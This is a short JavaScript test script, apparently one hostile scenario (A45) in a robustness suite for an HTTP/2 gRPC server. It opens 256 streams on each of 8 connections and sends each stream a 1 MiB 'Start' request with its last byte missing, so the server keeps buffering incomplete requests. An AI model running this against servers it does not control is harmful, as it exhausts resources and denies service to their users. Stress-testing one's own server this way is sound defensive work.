// A45: `Start` requests of 1 MiB without their last byte, 256 on each of 8 connections.
import { FLAG, FRAME, frame, grpcMessage } from '@wins/http2-connection/testing';
import { attacking, forever, MEBIBYTE, method, written } from './hostile.mjs';

const FRAME_OCTETS = 16_384;
const message = grpcMessage(Buffer.alloc(MEBIBYTE)).subarray(0, -1);

forever(8, async (client) => {
  const block = client.block(method('ProcessService', 'Start'));
  for (let id = 1; id < 512 && client.socket.writable; id += 2) {
    client.headers(id, FLAG.endHeaders, block);
    const frames = [];
    for (let at = 0; at < message.length; at += FRAME_OCTETS) {
      frames.push(frame(FRAME.data, 0, id, message.subarray(at, at + FRAME_OCTETS)));
    }
    await written(client.socket, Buffer.concat(frames));
    attacking();
  }
  await client.closed;
});
